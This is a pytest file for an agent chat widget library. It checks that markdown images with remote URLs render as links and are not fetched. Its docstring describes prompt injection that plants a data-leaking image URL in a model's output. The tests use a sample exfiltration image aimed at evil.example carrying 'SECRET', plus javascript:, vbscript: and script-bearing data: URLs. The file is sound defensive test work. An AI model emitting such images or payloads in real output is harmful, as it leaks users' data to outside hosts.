"""Images from URLs are never fetched without a click (by default): they draw as a link.

A markdown image from a model, a tool, a person or a session file would otherwise be fetched by
the browser at once, carrying whatever a prompt injection put into its URL.
"""

from __future__ import annotations

import pytest
from widget_helpers import all_html, until

from nb_hitl._render import image_html, markdown
from nb_hitl.agent import ReActAgent
from nb_hitl.message import Msg
from nb_hitl.model import ScriptedModel
from nb_hitl.widgets import AgentPanel, ChatWidget

LEAK = "![chart](https://evil.example/leak.png?d=SECRET)"
PIXEL = (
    "data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR4nGNgYGD4Dw"
    "ABBAEAwS2OUAAAAABJRU5ErkJggg=="
)


def test_markdown_draws_a_remote_image_as_a_link_by_default() -> None:
    page = markdown(f"Look: {LEAK}")
    assert "<img" not in page
    assert 'href="https://evil.example/leak.png?d=SECRET"' in page
    assert "chart" in page and "evil.example" in page and "not loaded" in page
    assert 'rel="noopener noreferrer nofollow"' in page


def test_inline_data_images_are_shown_and_other_policies_work() -> None:
    assert f'<img src="{PIXEL}"' in markdown(f"![dot]({PIXEL})")
    assert '<img src="https://evil.example/leak.png?d=SECRET"' in markdown(LEAK, "show")
    text_only = markdown(LEAK, "text")
    assert "<img" not in text_only and "href" not in text_only and "chart" in text_only
    for url in ("javascript:alert(1)", "data:text/html;base64,PHNjcmlwdD4=", "vbscript:x"):
        for policy in ("link", "show", "text"):
            drawn = image_html(url, "x", policy)  # type: ignore[arg-type]
            assert "<img" not in drawn and "href" not in drawn, (url, policy)


def test_msg_repr_html_uses_the_safe_default() -> None:
    page = Msg("assistant", f"see {LEAK}", "assistant")._repr_html_()
    assert "<img" not in page and "evil.example" in page


async def test_the_policy_is_set_per_widget() -> None:
    agent = ReActAgent("Friday", "sys", ScriptedModel([f"Here {LEAK}"] * 2, tokens_per_second=5000))
    safe = ChatWidget(agent)
    safe.send("draw")
    await until(lambda: safe.state == "idle", what="reply")
    assert "<img" not in all_html(safe) and "evil.example/leak.png" in all_html(safe)
    trusting = ChatWidget(agent, remote_images="show")  # a newer chat for the same agent
    assert '<img src="https://evil.example/leak.png?d=SECRET"' in all_html(trusting)
    panel = AgentPanel(agent, chat={"remote_images": "text"})
    assert "<img" not in all_html(panel) and 'href="https://evil' not in all_html(panel)
    with pytest.raises(ValueError, match="remote_images must be one of"):
        ChatWidget(agent, remote_images="always")  # type: ignore[arg-type]
    panel.close()
